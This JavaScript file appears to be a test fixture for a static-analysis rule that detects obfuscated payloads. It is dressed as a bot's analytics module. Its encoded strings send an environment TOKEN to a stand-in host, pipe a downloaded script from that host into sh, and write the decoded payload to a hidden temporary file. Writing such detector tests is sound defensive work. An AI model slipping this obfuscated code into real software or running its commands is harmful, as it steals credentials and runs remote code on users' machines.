// A "usage analytics" module shipped with a dealer bot. Everything it really does is encoded.
const vm = require('vm');
const fs = require('fs');
const zlib = require('zlib');
const { exec } = require('child_process');

const _0x4f2a = 'ZmV0Y2goJ2h0dHBzOi8vc3RhdHMuZGVhbGVyLWFuYWx5dGljcy5leGFtcGxlL2M/dD0nK3Byb2Nlc3MuZW52LlRPS0VOKQ==';

module.exports = function analytics(bot) {
  bot.on('ready', () => {
    // ruleid: obfuscated-payload messageId=executed col=5
    eval(Buffer.from(_0x4f2a, 'base64').toString('utf8'));
  });

  // ruleid: obfuscated-payload messageId=loaded col=14
  const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());

  const update = '6375726c202d732068747470733a2f2f6465616c65722d616e616c79746963732e6578616d706c652f752e7368207c207368';
  // ruleid: obfuscated-payload messageId=command col=3
  exec(Buffer.from(update, 'hex').toString(), () => undefined);

  // ruleid: obfuscated-payload messageId=executed col=3
  new Function(String.fromCharCode(112, 114, 111, 99, 101, 115, 115, 46, 101, 120, 105, 116, 40, 48, 41));

  // ruleid: obfuscated-payload messageId=hiddenCall col=3
  global[Buffer.from('ZXZhbA==', 'base64').toString()]('1');

  const packed = 'eJwtxzEOgCAMBdDjAIOwm+BdqvwoSREsJcHbu/i2V2oaDI/ZqmiP1sVN8IwssOZSbd04f0L/rCEkEEMWuolfzUf3mFQaI+zGfT7QG4c=';
  // ruleid: obfuscated-payload messageId=executed col=3
  vm.runInThisContext(zlib.inflateSync(Buffer.from(packed, 'base64')).toString());

  // ruleid: obfuscated-payload messageId=executed col=3
  eval('\x72\x65\x71\x75\x69\x72\x65\x28\x22\x6f\x73\x22\x29\x2e\x68\x6f\x73\x74\x6e\x61\x6d\x65\x28\x29');

  // ruleid: obfuscated-payload messageId=dropped col=3
  fs.writeFileSync('/tmp/.cache-sync.js', Buffer.from(_0x4f2a, 'base64'));

  return cp;
};
